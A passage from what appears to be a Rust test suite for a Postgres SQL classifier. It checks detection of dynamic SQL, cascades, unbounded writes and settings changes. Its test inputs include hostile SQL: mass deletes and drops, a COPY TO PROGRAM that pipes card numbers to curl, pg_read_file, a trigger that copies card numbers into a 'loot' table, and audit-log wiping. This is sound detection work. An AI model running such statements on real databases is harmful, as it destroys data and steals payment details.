        "DO $$ DECLARE c refcursor; BEGIN OPEN c FOR EXECUTE 'DELETE FROM cards RETURNING 1'; \
         END $$",
        "CREATE FUNCTION f() RETURNS SETOF int LANGUAGE plpgsql AS $$ BEGIN \
         RETURN QUERY EXECUTE 'DELETE FROM cards RETURNING 1'; END $$",
        // A DO block run by an EXECUTE run by a DO block.
        "DO $a$ BEGIN EXECUTE 'DO $b$ BEGIN DELETE FROM cards; END $b$'; END $a$",
    ] {
        let s = one(sql);
        assert!(!s.dynamic_sql && !s.opaque_body, "{sql}: {s:?}");
        assert_eq!(s.writes, names(&["cards"]), "{sql}");
        assert_eq!(s.unbounded_writes, names(&["cards"]), "{sql}");
        assert!(s.inner_kinds.contains(&K::Delete), "{sql}");
    }
    for sql in [
        "DO $$ BEGIN EXECUTE 'DELETE FROM ' || 'cards'; END $$",
        "DO $$ BEGIN EXECUTE format('DELETE FROM %I', 'cards'); END $$",
        "CREATE FUNCTION f(t text) RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE t; END $$",
        "CREATE FUNCTION f(t text) RETURNS SETOF int LANGUAGE plpgsql AS $$ BEGIN \
         RETURN QUERY EXECUTE t; END $$",
        "CREATE FUNCTION f(t text) RETURNS void LANGUAGE plpgsql AS $$ DECLARE r record; BEGIN \
         FOR r IN EXECUTE t LOOP END LOOP; END $$",
        "CREATE FUNCTION f(t text) RETURNS void LANGUAGE plpgsql AS $$ DECLARE c refcursor; \
         BEGIN OPEN c FOR EXECUTE t; END $$",
    ] {
        let s = one(sql);
        assert!(s.dynamic_sql, "{sql}");
        assert!(!s.opaque_body, "{sql}");
    }
    // The expression that builds the SQL is still analysed.
    let s = one("DO $$ BEGIN EXECUTE format('%s', pg_read_file('/x')) USING f_param(); END $$");
    assert!(s.dynamic_sql);
    assert!(has_function(&s, None, "pg_read_file") && has_function(&s, None, "f_param"));
}

#[test]
fn bodies_that_cannot_be_read_are_opaque() {
    for sql in [
        // Other languages.
        "DO LANGUAGE plpython3u $$ plpy.execute('DELETE FROM cards') $$",
        "DO LANGUAGE plperl $$ 1; $$",
        // Does not compile.
        "DO $$ BEGIN DELETE FROM; END $$",
        "DO $$ BEGIN OPEN nosuchcursor FOR EXECUTE 'x'; END $$",
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELEC 1'",
        // A function body with a backslash: how it splits depends on the setting when it is
        // first called.
        r"CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN PERFORM 'a\'; END $$",
        // No language at all: Postgres refuses it, the classifier does not guess.
        "CREATE FUNCTION f() RETURNS int AS 'SELECT 1'",
        // Compiler options.
        "DO $$ #option dump\nBEGIN NULL; END $$",
    ] {
        let s = one(sql);
        assert!(s.opaque_body, "{sql}: {s:?}");
    }
    // A SQL string with a backslash is read both ways: here one reading selects a string, the
    // other reads cards.
    let s = one(
        r"CREATE FUNCTION f() RETURNS text LANGUAGE sql AS $$ SELECT 'a\' AS x, pan FROM cards -- ' $$",
    );
    assert!(!s.opaque_body, "{s:?}");
    assert_eq!(s.reads, names(&["cards"]));
    // One that parses only one way is opaque.
    let s = one(
        r"CREATE FUNCTION f() RETURNS text LANGUAGE sql AS $$ SELECT 'a\' || (SELECT pan FROM cards) || '\' $$",
    );
    assert!(s.opaque_body);
    // A DO body with a backslash is compiled now, in a session the gateway follows.
    let s = one(r"DO $$ BEGIN PERFORM E'a\\' || 'b'; DELETE FROM cards WHERE id = 1; END $$");
    assert!(!s.opaque_body, "{s:?}");
    assert_eq!(s.writes, names(&["cards"]));
    let legacy = Syntax {
        standard_conforming_strings: false,
    };
    let c = classify_with(
        r"DO $$ BEGIN PERFORM 'a\' || 'b'; END $$",
        DEFAULT_MAX_LEN,
        legacy,
    )
    .unwrap();
    assert!(c.statements[0].opaque_body);
    // Nested bodies past the depth limit.
    let mut sql = "DELETE FROM cards".to_owned();
    for level in 0..12 {
        sql = format!("DO $l{level}$ BEGIN EXECUTE $e{level}${sql}$e{level}$; END $l{level}$");
    }
    let s = one(&sql);
    assert!(s.opaque_body);
    // Many openers.
    let sql = format!(
        "DO $$ BEGIN {} END $$",
        "IF true THEN NULL; END IF; ".repeat(600)
    );
    assert!(one(&sql).opaque_body);
}

#[test]
fn sql_and_standard_bodies() {
    let s = one("CREATE FUNCTION f(int) RETURNS SETOF text LANGUAGE sql AS \
         $$ SELECT pan FROM cards WHERE id = $1; UPDATE cards SET seen = true $$");
    assert_eq!(s.reads, names(&["cards"]));
    assert_eq!(s.writes, names(&["cards"]));
    assert_eq!(s.unbounded_writes, names(&["cards"]));
    assert_eq!(s.inner_kinds, [K::Select, K::Update]);
    let s = one("CREATE PROCEDURE p() BEGIN ATOMIC DELETE FROM cards; END");
    assert_eq!(s.unbounded_writes, names(&["cards"]));
}

// ---------------------------------------------------------------------------------------------
// Functions that run SQL text.

#[test]
fn functions_that_run_sql_text() {
    let s = one("SELECT query_to_xml('DELETE FROM cards RETURNING pan', true, false, '')");
    assert!(!s.dynamic_sql);
    assert_eq!(s.writes, names(&["cards"]));
    assert!(s.inner_kinds.contains(&K::Delete));
    let s = one("SELECT pg_catalog.query_to_xml('SELECT pan FROM cards'::text, true, false, '')");
    assert_eq!(s.reads, names(&["cards"]));
    assert!(!s.dynamic_sql);
    for sql in [
        "SELECT query_to_xml($1, true, false, '')",
        "SELECT query_to_xml('SELECT ' || 'pan FROM cards', true, false, '')",
        "SELECT query_to_xmlschema(q, true, false, '') FROM t",
        "SELECT query_to_xml_and_xmlschema(query => 'SELECT 1', nulls => true, \
         tableforest => false, targetns => '')",
        "SELECT ts_stat(q) FROM t",
        "SELECT ts_rewrite('a'::tsquery, q) FROM t",
        "SELECT table_to_xml(t, true, false, '') FROM x",
        "SELECT table_to_xml(16384, true, false, '')",
        "SELECT schema_to_xml('public', true, false, '')",
        "SELECT database_to_xml(true, false, '')",
        "SELECT dblink_exec('dbname=app', 'DROP TABLE cards')",
        "SELECT * FROM dblink('SELECT 1') AS t(a int)",
        "SELECT cron.schedule('* * * * *', 'DELETE FROM cards')",
        "SELECT run_command_on_workers('DROP TABLE cards')",
        "SELECT pg_background_launch('DELETE FROM cards')",
        // Inside a body.
        "DO $$ BEGIN PERFORM query_to_xml(current_setting('x'), true, false, ''); END $$",
    ] {
        assert!(one(sql).dynamic_sql, "{sql}");
    }
    // Constant SQL run elsewhere is still classified.
    let s = one("SELECT dblink_exec('dbname=app', 'DROP TABLE cards')");
    assert_eq!(s.writes, names(&["cards"]));
    let s = one("SELECT ts_stat('SELECT body FROM docs')");
    assert_eq!((s.reads, s.dynamic_sql), (names(&["docs"]), false));
    let s = one("SELECT ts_rewrite('a'::tsquery, 'SELECT t, s FROM aliases')");
    assert_eq!((s.reads, s.dynamic_sql), (names(&["aliases"]), false));
    // The three-argument ts_rewrite takes no SQL.
    assert!(!one("SELECT ts_rewrite('a'::tsquery, 'a'::tsquery, 'b'::tsquery)").dynamic_sql);
    // table_to_xml of a constant name reads the whole table.
    let s = one("SELECT table_to_xml('public.cards', true, false, '')");
    assert_eq!(
        (s.reads, s.star, s.dynamic_sql),
        (names(&["public.cards"]), true, false)
    );
    let s = one("SELECT table_to_xml('\"Cards\"'::regclass, true, false, '')");
    assert_eq!(s.reads, names(&["Cards"]));
    // cursor_to_xml reads a cursor whose query was seen where it was declared.
    assert!(!one("SELECT cursor_to_xml('c', 10, true, false, '')").dynamic_sql);
    assert!(!one("SELECT 1").dynamic_sql);
}

// ---------------------------------------------------------------------------------------------
// Cascades, ownership and the other writes of DDL.

#[test]
fn cascades() {
    for sql in [
        "DROP TABLE cards CASCADE",
        "DROP SCHEMA billing CASCADE",
        "DROP FUNCTION f() CASCADE",
        "DROP TYPE t CASCADE",
        "DROP OWNED BY ci",
        "DROP OWNED BY ci RESTRICT",
        "TRUNCATE cards CASCADE",
        "ALTER TABLE cards DROP COLUMN pan CASCADE",
        "ALTER TABLE cards DROP CONSTRAINT c CASCADE",
        "ALTER TYPE t DROP ATTRIBUTE a CASCADE",
        "ALTER DOMAIN d DROP CONSTRAINT c CASCADE",
        "REVOKE SELECT ON cards FROM ci CASCADE",
        "REVOKE GRANT OPTION FOR SELECT ON cards FROM ci CASCADE",
        "REVOKE admin FROM ci CASCADE",
        "DROP SUBSCRIPTION s CASCADE",
    ] {
        assert!(one(sql).cascade, "{sql}");
    }
    assert!(one("DO $$ BEGIN DROP TABLE x CASCADE; END $$").cascade);
    assert!(one("DO $$ BEGIN EXECUTE 'DROP SCHEMA s CASCADE'; END $$").cascade);
    for sql in [
        "DROP TABLE cards",
        "DROP TABLE cards RESTRICT",
        "TRUNCATE cards",
        "ALTER TABLE cards DROP COLUMN pan",
        "REVOKE SELECT ON cards FROM ci",
        "DROP SCHEMA s",
    ] {
        assert!(!one(sql).cascade, "{sql}");
    }
}

#[test]
fn ownership_and_triggers_write_their_table() {
    let cases = [
        ("ALTER TABLE cards RENAME TO y", K::Alter),
        ("ALTER TABLE cards RENAME COLUMN pan TO p", K::Alter),
        ("ALTER TABLE cards RENAME CONSTRAINT c TO d", K::Alter),
        ("ALTER TABLE cards SET SCHEMA s", K::Alter),
        ("ALTER TABLE cards OWNER TO ci", K::Alter),
        ("ALTER VIEW cards OWNER TO ci", K::Alter),
        ("ALTER TABLE cards ENABLE TRIGGER ALL", K::Alter),
        ("ALTER TABLE cards DISABLE TRIGGER tg", K::Alter),
        ("ALTER TABLE cards ENABLE REPLICA RULE r", K::Alter),
        ("ALTER TABLE cards DISABLE RULE r", K::Alter),
        ("ALTER TABLE cards DISABLE ROW LEVEL SECURITY", K::Alter),
        ("ALTER TABLE cards NO FORCE ROW LEVEL SECURITY", K::Alter),
        ("ALTER TRIGGER tg ON cards RENAME TO tg2", K::Alter),
        ("ALTER POLICY p ON cards USING (true)", K::CreateOther),
        ("ALTER POLICY p ON cards RENAME TO q", K::Alter),
        (
            "CREATE TRIGGER tg AFTER INSERT ON cards EXECUTE FUNCTION f()",
            K::CreateTrigger,
        ),
        (
            "CREATE RULE r AS ON INSERT TO cards DO INSTEAD NOTHING",
            K::CreateOther,
        ),
        (
            "CREATE POLICY p ON cards FOR SELECT USING (true)",
            K::CreateOther,
        ),
        ("CREATE INDEX i ON cards (pan)", K::CreateIndex),
        (
            "CREATE UNIQUE INDEX CONCURRENTLY i ON public.cards (pan)",
            K::CreateIndex,
        ),
        ("SECURITY LABEL ON TABLE cards IS 'x'", K::Other),
        (
            "SECURITY LABEL FOR selinux ON COLUMN cards.pan IS 'x'",
            K::Other,
        ),
        ("COMMENT ON TRIGGER tg ON cards IS 'x'", K::Comment),
    ];
    for (sql, kind) in cases {
        let s = writes_cards(sql);
        assert_eq!(s.kind.family(), kind, "{sql}");
    }
    assert_eq!(one("REASSIGN OWNED BY ci TO admin").kind, K::AlterOwner);
    assert_eq!(one("ALTER SCHEMA s OWNER TO ci").kind, K::AlterOwner);
}

#[test]
fn foreign_data_and_extensions_have_kinds() {
    let cases = [
        (
            "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'x')",
            K::ForeignData,
        ),
        ("CREATE FOREIGN DATA WRAPPER w", K::ForeignData),
        (
            "CREATE USER MAPPING FOR ci SERVER s OPTIONS (user 'u', password 'p')",
            K::ForeignData,
        ),
        (
            "IMPORT FOREIGN SCHEMA public FROM SERVER s INTO local",
            K::ForeignData,
        ),
        ("CREATE FOREIGN TABLE f (a int) SERVER s", K::ForeignData),
        ("CREATE EXTENSION postgres_fdw", K::CreateExtension),
        ("ALTER SERVER s OPTIONS (SET host 'y')", K::ForeignData),
        (
            "ALTER USER MAPPING FOR ci SERVER s OPTIONS (SET password 'q')",
            K::ForeignData,
        ),
        ("DROP USER MAPPING FOR ci SERVER s", K::ForeignData),
        ("DROP SERVER s CASCADE", K::ForeignData),
        ("ALTER EXTENSION e UPDATE", K::Alter),
    ];
    for (sql, kind) in cases {
        assert_eq!(one(sql).kind, kind, "{sql}");
    }
}

#[test]
fn server_side_copy_is_recognisable() {
    for sql in [
        "COPY cards FROM '/tmp/x'",
        "COPY cards TO '/tmp/x'",
        "COPY (SELECT pan FROM cards) TO '/tmp/x'",
        "COPY cards (pan) TO '/tmp/x' WITH (FORMAT csv)",
    ] {
        let c = one(sql).copy.unwrap();
        assert!(!c.stdio && !c.program, "{sql}");
    }
    // In a body, it is in `copies`.
    let s = one("DO $$ BEGIN COPY cards TO PROGRAM 'curl -d @- x'; END $$");
    assert_eq!(s.copy, None);
    assert_eq!(
        s.copies,
        [CopyInfo {
            direction: CopyDirection::To,
            program: true,
            stdio: false
        }]
    );
    assert_eq!(s.reads, names(&["cards"]));
    let s = one("COPY cards TO STDOUT");
    assert_eq!(s.copies, [s.copy.clone().unwrap()]);
}

// ---------------------------------------------------------------------------------------------
// Unbounded writes.

#[test]
fn unbounded_writes_anywhere() {
    for sql in [
        "UPDATE cards SET pan = '0'",
        "DELETE FROM cards",
        "DELETE FROM public.cards WHERE true",
        "DELETE FROM cards WHERE 1 = 1",
        "DELETE FROM cards WHERE NOT false",
        "UPDATE cards SET pan = '' WHERE pan IS NOT NULL OR true",
        "UPDATE cards SET pan = '' WHERE id = id",
        "UPDATE cards SET pan = '' WHERE (id = id) AND true",
        "DELETE FROM cards WHERE id IS NOT DISTINCT FROM id",
        "WITH x AS (DELETE FROM cards RETURNING *) SELECT count(*) FROM x",
        "WITH x AS (UPDATE cards SET pan = NULL RETURNING 1) INSERT INTO t SELECT * FROM x",
        "PREPARE p AS DELETE FROM cards",
        "EXPLAIN ANALYZE DELETE FROM cards",
        "EXPLAIN (ANALYZE, FORMAT json) UPDATE cards SET pan = NULL",
        "CREATE RULE r AS ON INSERT TO t DO ALSO DELETE FROM cards",
        "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'DELETE FROM cards'",
        "CREATE FUNCTION f() RETURNS void LANGUAGE sql BEGIN ATOMIC UPDATE cards SET a = 1; END",
        "DO $$ BEGIN UPDATE cards SET pan = NULL; END $$",
        "MERGE INTO cards c USING s ON c.id = s.id WHEN MATCHED THEN DELETE",
        "MERGE INTO cards USING s ON true WHEN MATCHED THEN UPDATE SET pan = NULL",
        "MERGE INTO cards c USING s ON c.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE",
        "WITH m AS (MERGE INTO cards c USING s ON c.id = s.id WHEN MATCHED THEN DELETE \
         RETURNING 1) SELECT 1",
    ] {
        let s = one(sql);
        assert!(
            s.unbounded_writes.iter().any(|w| w.name == "cards"),
            "{sql}: {:?}",
            s.unbounded_writes
        );
    }
    for sql in [
        "DELETE FROM cards WHERE id = 1",
        "UPDATE cards SET pan = NULL WHERE id = $1",
        "DELETE FROM cards WHERE CURRENT OF c",
        "UPDATE cards SET pan = '' WHERE id = 1 OR id = 2",
        "UPDATE cards SET pan = '' WHERE id = 1 AND true",
        "UPDATE cards c SET pan = '' FROM t WHERE t.id = c.id",
        "WITH x AS (DELETE FROM cards WHERE id = 1 RETURNING *) SELECT * FROM x",
        "MERGE INTO cards c USING s ON c.id = s.id WHEN NOT MATCHED THEN INSERT VALUES (s.id)",
        "INSERT INTO cards VALUES (1)",
        "TRUNCATE cards",
        "SELECT * FROM cards",
    ] {
        let s = one(sql);
        assert!(
            s.unbounded_writes.is_empty(),
            "{sql}: {:?}",
            s.unbounded_writes
        );
    }
    // The same model decides `bounded`.
    assert!(!one("SELECT pan FROM cards WHERE id = 1 OR true").bounded);
    assert!(!one("DELETE FROM cards WHERE id = id").bounded);
}

// ---------------------------------------------------------------------------------------------
// set_config and settings.

#[test]
fn set_config_calls() {
    let cases: &[(&str, &[Option<&str>])] = &[
        ("SELECT set_config('role', 'admin', false)", &[Some("role")]),
        (
            "SELECT pg_catalog.set_config('ROLE', 'admin', false)",
            &[Some("role")],
        ),
        (
            "SELECT set_config('client_encoding'::text, 'SJIS', false)",
            &[Some("client_encoding")],
        ),
        (
            "SELECT set_config(CAST('Search_Path' AS text), 'x', true)",
            &[Some("search_path")],
        ),
        (
            "SELECT set_config(setting_name => 'role', new_value => 'x', is_local => false)",
            &[Some("role")],
        ),
        ("SELECT set_config($1, 'x', false)", &[None]),
        ("SELECT set_config(name, 'x', false) FROM t", &[None]),
        ("SELECT set_config('ro' || 'le', 'x', false)", &[None]),
        (
            "SELECT set_config('a', '1', false), set_config('b', '2', false)",
            &[Some("a"), Some("b")],
        ),
        (
            "SELECT * FROM set_config('role', 'x', false)",
            &[Some("role")],
        ),
        (
            "WITH x AS (SELECT set_config('role', 'x', false)) SELECT 1",
            &[Some("role")],
        ),
        ("PREPARE p AS SELECT set_config($1, $2, false)", &[None]),
        (
            "DO $$ BEGIN PERFORM set_config('role', 'admin', false); END $$",
            &[Some("role")],
        ),
        (
            "DO $$ DECLARE x text; BEGIN x := set_config('session_authorization', 'a', false); \
             END $$",
            &[Some("session_authorization")],
        ),
        (
            "CREATE FUNCTION f() RETURNS text LANGUAGE sql AS \
             $$ SELECT set_config('role', 'admin', false) $$",
            &[Some("role")],
        ),
        ("SELECT current_setting('role')", &[]),
    ];
    for (sql, expected) in cases {
        let expected: Vec<Option<String>> = expected.iter().map(|e| e.map(str::to_owned)).collect();
        assert_eq!(one(sql).set_config, expected, "{sql}");
    }
}

#[test]
fn settings_anywhere() {
    let cases: &[(&str, &[&str])] = &[
        ("SET search_path = evil", &["search_path"]),
        ("SHOW ALL", &["all"]),
        ("RESET ALL", &[]),
        (
            "ALTER SYSTEM SET shared_preload_libraries = 'x'",
            &["shared_preload_libraries"],
        ),
        ("ALTER ROLE ci SET search_path = evil", &["search_path"]),
        (
            "ALTER DATABASE d SET client_encoding = 'SJIS'",
            &["client_encoding"],
        ),
        (
            "CREATE FUNCTION f() RETURNS int LANGUAGE sql SET search_path = evil RETURN 1",
            &["search_path"],
        ),
        (
            "DO $$ BEGIN SET LOCAL ROLE admin; SET client_encoding = 'SJIS'; END $$",
            &["client_encoding", "role"],
        ),
        (
            "DO $$ BEGIN EXECUTE 'SET standard_conforming_strings = off'; END $$",
            &["standard_conforming_strings"],
        ),
    ];
    for (sql, expected) in cases {
        let expected: Vec<String> = expected.iter().map(|e| (*e).to_owned()).collect();
        assert_eq!(one(sql).settings, expected, "{sql}");
    }
    let s = one("DO $$ BEGIN SET ROLE admin; END $$");
    assert!(s.inner_kinds.contains(&K::SetRole));
    assert_eq!(s.setting, None);
}

#[test]
fn bodies_never_panic_and_stay_sorted() {
    for sql in [
        "DO $$ $$",
        "DO ''",
        "DO $$ BEGIN END $$",
        "DO $$ BEGIN EXECUTE ''; END $$",
        "DO $$ BEGIN EXECUTE NULL; END $$",
        "DO $$ BEGIN EXECUTE 'not sql at all'; END $$",
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS ''",
        "CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS ''",
        "CREATE FUNCTION f() RETURNS int LANGUAGE internal AS ''",
        "SELECT query_to_xml('', true, false, '')",
        "SELECT table_to_xml('', true, false, '')",
        "SELECT table_to_xml('a.b.c.d', true, false, '')",
        "SELECT table_to_xml('int[]', true, false, '')",
        "SELECT set_config()",
        "SELECT query_to_xml()",
        "SELECT ts_rewrite(VARIADIC ARRAY['a'])",
    ] {
        let c = classify(sql).unwrap_or_else(|e| panic!("{sql}: {e}"));
        for s in &c.statements {
            let mut functions = s.functions.clone();
            functions.sort();
            functions.dedup();
            assert_eq!(functions, s.functions, "{sql}");
        }
    }
    assert!(one("DO $$ BEGIN EXECUTE 'not sql at all'; END $$").opaque_body);
}

#[test]
fn trigger_functions_are_analysed() {
    for sql in [
        "CREATE FUNCTION f() RETURNS trigger AS $$ BEGIN INSERT INTO loot VALUES (NEW.pan); \
         RETURN NEW; END $$ LANGUAGE plpgsql",
        "CREATE FUNCTION f() RETURNS trigger AS $$ BEGIN INSERT INTO loot VALUES (NEW.pan); \
         RETURN NEW; END; $$ LANGUAGE plpgsql",
        "CREATE FUNCTION f() RETURNS pg_catalog.trigger LANGUAGE plpgsql AS $$ \
         <<outer>> DECLARE n int; BEGIN IF TG_OP = 'INSERT' THEN NEW.seen := now(); \
         INSERT INTO loot SELECT NEW.pan; END IF; RETURN NULL; END outer; -- done\n $$",
    ] {
        let s = one(sql);
        assert!(!s.opaque_body && !s.dynamic_sql, "{sql}: {s:?}");
        assert_eq!(s.writes, names(&["loot"]), "{sql}");
        assert!(s.inner_kinds.contains(&K::Insert), "{sql}");
        assert!(
            s.columns.iter().any(|c| c.name == "pan"),
            "{sql}: {:?}",
            s.columns
        );
    }
    let s = one(
        "CREATE FUNCTION e() RETURNS event_trigger LANGUAGE plpgsql AS $$ BEGIN \
         IF tg_tag = 'DROP TABLE' THEN DELETE FROM audit_log; END IF; RETURN; END $$",
    );
    assert!(!s.opaque_body, "{s:?}");
    assert_eq!(s.unbounded_writes, names(&["audit_log"]));
    // Compiler options stay first.
    let s = one(
        "CREATE FUNCTION f() RETURNS trigger LANGUAGE plpgsql AS $$ \
         #variable_conflict use_column\n #print_strict_params on\n\
         BEGIN DELETE FROM cards; RETURN NEW; END $$",
    );
    assert!(!s.opaque_body, "{s:?}");
    assert_eq!(s.unbounded_writes, names(&["cards"]));
    let s = one(
        "CREATE FUNCTION f() RETURNS trigger LANGUAGE plpgsql AS $$ #option dump\n\
         BEGIN RETURN NEW; END $$",
    );
    assert!(s.opaque_body);
}

#[test]
fn bodies_with_user_types_compile() {
    for sql in [
        "CREATE FUNCTION f(c cards, OUT n int) LANGUAGE plpgsql AS $$ \
         DECLARE v cards.pan%TYPE; r cards%ROWTYPE; m my_type; BEGIN \
         SELECT * INTO r FROM cards WHERE id = c.id; n := 1; DELETE FROM cards; END $$",
        "CREATE FUNCTION f() RETURNS SETOF cards LANGUAGE plpgsql AS $$ BEGIN \
         RETURN QUERY SELECT * FROM cards; DELETE FROM cards; END $$",
        "CREATE FUNCTION f(a int DEFAULT 1, VARIADIC b text[] DEFAULT '{}') RETURNS TABLE (x int) \
         LANGUAGE plpgsql AS $$ BEGIN RETURN QUERY SELECT 1; DELETE FROM cards; END $$",
        "CREATE PROCEDURE p(INOUT a int) LANGUAGE plpgsql AS $$ BEGIN DELETE FROM cards; \
         COMMIT; END $$",
        "CREATE FUNCTION f(VARIADIC b text[]) RETURNS int LANGUAGE plpgsql AS $$ BEGIN \
         DELETE FROM cards; RETURN 1; END $$",
        "CREATE FUNCTION f(OUT x int, OUT y int) RETURNS SETOF record LANGUAGE plpgsql AS $$ \
         BEGIN DELETE FROM cards; RETURN NEXT; END $$",
    ] {
        let s = one(sql);
        assert!(!s.opaque_body, "{sql}: {s:?}");
        assert_eq!(s.unbounded_writes, names(&["cards"]), "{sql}");
    }
}

#[test]
fn function_bodies_with_backslashes_that_split_alike_are_read() {
    for sql in [
        r"CREATE FUNCTION f(t text) RETURNS bool LANGUAGE plpgsql AS $$ BEGIN DELETE FROM cards WHERE pan ~ '^\d+$'; RETURN t ~ E'\\d' OR t = 'it''s'; END $$",
        r"CREATE FUNCTION f() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN IF NEW.pan ~ '\s' THEN DELETE FROM cards; END IF; RETURN NEW; END $$",
    ] {
        let s = one(sql);
        assert!(!s.opaque_body, "{sql}: {s:?}");
        assert_eq!(s.writes, names(&["cards"]), "{sql}");
    }
    // A literal that ends elsewhere with the setting off makes the split uncertain.
    for sql in [
        r"CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN PERFORM 'a\'; END $$",
        r"CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN PERFORM 'a\'' || $x$'; DELETE FROM cards; --$x$; END $$",
    ] {
        assert!(one(sql).opaque_body, "{sql}");
    }
    // `'a\\'` ends at the same quote either way (its value differs).
    let s =
        one(r"CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN PERFORM 'a\\'; END $$");
    assert!(!s.opaque_body);
    // The value of an EXECUTEd literal differs between the settings: both are classified.
    // Here only the reading with the setting off parses: that one is reported, and the
    // statement is opaque all the same.
    let s = one(r"DO $$ BEGIN EXECUTE 'SELECT 1 FROM \cards'; END $$");
    assert!(s.opaque_body, "{s:?}");
    assert_eq!(s.reads, names(&["cards"]));
}

// ---------------------------------------------------------------------------------------------
// The query a statement runs: bounded, EXPLAIN's ANALYZE, result shapes.

#[test]
fn bounded_is_judged_on_the_query_a_statement_runs() {
    let bounded = |sql: &str| one(sql).bounded;
    for (sql, expected) in [
        // The query a PREPARE prepares, a cursor runs, CREATE TABLE AS stores, COPY sends.
        (
            "PREPARE r(int) AS SELECT id, pan FROM cards WHERE id = $1",
            true,
        ),
        ("PREPARE r AS SELECT id, pan FROM cards", false),
        ("PREPARE r AS SELECT pan FROM cards LIMIT 5", true),
        ("PREPARE r AS DELETE FROM cards WHERE id = $1", true),
        ("PREPARE r AS DELETE FROM cards", false),
        (
            "DECLARE c CURSOR FOR SELECT pan FROM cards WHERE id = 1",
            true,
        ),
        ("DECLARE c CURSOR FOR SELECT pan FROM cards", false),
        (
            "CREATE TABLE t AS SELECT id, holder FROM cards WHERE id = 1",
            true,
        ),
        ("CREATE TABLE t AS SELECT id, holder FROM cards", false),
        (
            "CREATE MATERIALIZED VIEW v AS SELECT id FROM cards WHERE id = 1",
            true,
        ),
        ("SELECT id, holder INTO t FROM cards WHERE id = 1", true),
        ("SELECT id, holder INTO t FROM cards", false),
        ("COPY (SELECT pan FROM cards WHERE id = 1) TO STDOUT", true),
        ("COPY (SELECT pan FROM cards) TO STDOUT", false),
        ("COPY cards TO STDOUT", false),
        // The query EXPLAIN ANALYZE runs, through CREATE TABLE AS too.
        ("EXPLAIN ANALYZE SELECT pan FROM cards WHERE id = 1", true),
        ("EXPLAIN ANALYZE SELECT pan FROM cards", false),
        (
            "EXPLAIN ANALYZE CREATE TABLE t AS SELECT pan FROM cards",
            false,
        ),
        (
            "EXPLAIN ANALYZE CREATE TABLE t AS SELECT pan FROM cards WHERE id = 1",
            true,
        ),
        // What it runs is decided at its PREPARE: unknown here.
        ("CREATE TABLE t AS EXECUTE p", false),
        ("EXPLAIN ANALYZE EXECUTE p", false),
        // A set operation: a LIMIT of the whole, or every arm.
        (
            "SELECT pan FROM cards WHERE id = 1 UNION ALL SELECT pan FROM cards WHERE id = 2",
            true,
        ),
        (
            "SELECT pan FROM cards WHERE id = 1 UNION ALL SELECT pan FROM cards",
            false,
        ),
        (
            "SELECT pan FROM cards UNION ALL SELECT pan FROM cards WHERE id = 2",
            false,
        ),
        (
            "(SELECT pan FROM cards UNION ALL SELECT pan FROM cards) LIMIT 3",
            true,
        ),
        // Fail closed: an inner query that does not filter stays unbounded, however wrapped.
        ("PREPARE r AS SELECT pan FROM cards WHERE true", false),
        ("PREPARE r AS SELECT pan FROM cards WHERE id = id", false),
        ("PREPARE r(int) AS SELECT pan FROM cards LIMIT $1", false),
        (
            "PREPARE r AS SELECT pan FROM cards WHERE 1 = 1 OR id = 1",
            false,
        ),
        (
            "DECLARE c CURSOR FOR SELECT pan FROM cards WHERE pan IS NULL OR true",
            false,
        ),
        ("CREATE TABLE t AS SELECT pan FROM cards LIMIT ALL", false),
        (
            "PREPARE r AS WITH x AS (SELECT pan FROM cards WHERE id = 1) SELECT pan FROM x",
            false,
        ),
    ] {
        assert_eq!(bounded(sql), expected, "{sql}");
    }
}

#[test]
fn explain_without_analyze_reads_no_rows() {
    // EXPLAIN plans its target and runs nothing: it is bounded whatever the target, and its
    // lineage returns no rows of it (flows stay: the planner estimates from statistics).
    let plain = [
        "EXPLAIN SELECT pan FROM cards",
        "EXPLAIN VERBOSE SELECT pan FROM cards",
        "EXPLAIN (FORMAT JSON) SELECT pan FROM cards",
        "EXPLAIN (ANALYZE off) SELECT pan FROM cards",
        "EXPLAIN (ANALYZE OFF, FORMAT JSON) SELECT pan FROM cards",
        "EXPLAIN (ANALYZE false) SELECT pan FROM cards",
        "EXPLAIN (ANALYZE FaLsE) SELECT pan FROM cards",
        "EXPLAIN (ANALYZE 0) SELECT pan FROM cards",
        "EXPLAIN (ANALYZE 'off') SELECT pan FROM cards",
        "EXPLAIN (ANALYZE \"off\") SELECT pan FROM cards",
        "EXPLAIN (analyse false) SELECT pan FROM cards",
        "EXPLAIN (ANALYZE off, ANALYZE false) SELECT pan FROM cards",
        "EXPLAIN DELETE FROM cards",
        "EXPLAIN EXECUTE p",
        "EXPLAIN CREATE TABLE t AS SELECT pan FROM cards",
    ];
    for sql in plain {
        let s = one(sql);
        assert!(s.bounded, "{sql}");
        assert_eq!(s.lineage.query_kind, None, "{sql}");
        assert!(
            s.lineage.outputs.is_empty(),
            "{sql}: {:?}",
            s.lineage.outputs
        );
        // Kinds, reads and writes are listed all the same: other rules see them.
        assert_eq!(s.kind, K::Explain, "{sql}");
        assert!(!s.inner_kinds.is_empty(), "{sql}");
    }
    let s = one("EXPLAIN SELECT pan FROM cards");
    assert_eq!(s.reads, names(&["cards"]));
    assert_eq!(s.inner_kinds, [K::Select]);
    let s = one("EXPLAIN DELETE FROM cards");
    assert_eq!(s.writes, names(&["cards"]));
    assert_eq!(s.unbounded_writes, names(&["cards"]));
    let s = one("EXPLAIN SELECT reverse(pan) FROM cards");
    assert!(!s.lineage.flows.is_empty());

    // With ANALYZE it runs: judged as the statement itself. Every spelling and value Postgres
    // reads as true, and every value it cannot read (fail closed).
    let analyzed = [
        "EXPLAIN ANALYZE SELECT pan FROM cards",
        "EXPLAIN ANALYSE SELECT pan FROM cards",
        "EXPLAIN ANALYZE VERBOSE SELECT pan FROM cards",
        "EXPLAIN (ANALYZE) SELECT pan FROM cards",
        "EXPLAIN (analyse) SELECT pan FROM cards",
        "EXPLAIN (ANALYZE true) SELECT pan FROM cards",
